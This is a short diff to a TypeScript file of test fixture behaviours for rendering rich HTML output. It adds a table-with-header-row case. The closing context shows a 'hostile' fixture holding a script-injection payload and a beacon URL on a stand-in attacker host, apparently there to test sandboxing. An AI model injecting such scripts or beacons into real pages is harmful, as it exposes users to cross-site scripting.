@@ -238,6 +238,14 @@ export const behaviours: Record<string, Behaviour> = {
     return undefined;
   },
 
+  /** A table without a head of its own: its first row is one. */
+  async headless({ emit }) {
+    const row = (n: number) => `<tr><td>city ${n}</td><td>${n}</td></tr>`;
+    const html = `<table><tr><th>city</th><th>sales</th></tr>${[1, 2, 3, 4].map(row).join('')}</table>`;
+    await emit({ type: 'rich', role: 'display', data: { 'text/html': html } });
+    return undefined;
+  },
+
   async hostile({ emit }) {
     const beacon = 'https://evil.invalid/x';
     const script = '<script>window.parent.pwned=1;window.pwned=1</script>';
